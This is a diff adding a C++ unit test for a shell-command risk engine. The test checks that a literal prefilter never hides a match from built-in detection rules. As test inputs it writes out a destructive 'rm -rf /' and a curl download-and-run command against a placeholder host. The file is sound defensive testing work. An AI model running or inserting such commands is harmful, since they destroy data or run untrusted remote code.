@@ -2,9 +2,11 @@
 // file:line and rule id; user rule files load.
 #include <gtest/gtest.h>
 
+#include <cctype>
 #include <cstdio>
 #include <fstream>
 
+#include "risk/builtin_rules.hpp"
 #include "risk/engine_test_util.hpp"
 #include "risk/rules.hpp"
 
@@ -69,6 +71,45 @@ TEST(Rules, CriticalRulesCannotBeDisabled) {
   ASSERT_TRUE(e.ok());
   EXPECT_EQ((*e)->assess_script("rm -rf /").level, Level::critical);
   EXPECT_EQ((*e)->assess_script("git push --force").level, Level::low);
+}
+
+// The literal prefilter (needs_any, from RE2 at build time) lets vg skip
+// compiling rules that cannot apply; it must never hide a match.
+TEST(Rules, LiteralPrefilterSkipsOnlyRulesThatCannotMatch) {
+  RuleSet rules;
+  ASSERT_TRUE(rules.load_blob(builtin_rules_blob(), true).ok());
+  // The script rule that applies to every command: `true` cannot match it,
+  // any spelling of curl or wget might, and non-ASCII text is never judged.
+  const Rule* download = nullptr;
+  for (const auto& r : rules.rules())
+    if (r->id == "remote.download_exec") download = r.get();
+  ASSERT_NE(download, nullptr);
+  EXPECT_FALSE(download->may_match("true"));
+  EXPECT_FALSE(download->may_match("git status"));
+  EXPECT_TRUE(download->may_match("curl -o x https://e.example/i.sh && sh x"));
+  EXPECT_TRUE(download->may_match("CURL -o x"));
+  EXPECT_TRUE(download->may_match("w\xc3\xa9get"));
+  EXPECT_FALSE(download->compiled);  // judged without compiling its pattern
+
+  std::size_t filtered = 0, matched = 0;
+  for (const auto& r : rules.rules()) {
+    if (r->needs_any.empty()) continue;
+    ++filtered;
+    std::vector<std::string> texts = r->match_examples;
+    texts.insert(texts.end(), r->not_match_examples.begin(), r->not_match_examples.end());
+    for (std::size_t i = 0, n = texts.size(); i < n; ++i) {
+      std::string upper = texts[i];
+      for (char& c : upper) c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
+      texts.push_back(upper);
+    }
+    for (const auto& t : texts) {
+      if (!r->matches(t)) continue;
+      ++matched;
+      EXPECT_TRUE(r->may_match(t)) << r->id << ": " << t;
+    }
+  }
+  EXPECT_GT(filtered, rules.rules().size() / 2);
+  EXPECT_GT(matched, filtered);  // the property was put to the test
 }
 
 }  // namespace
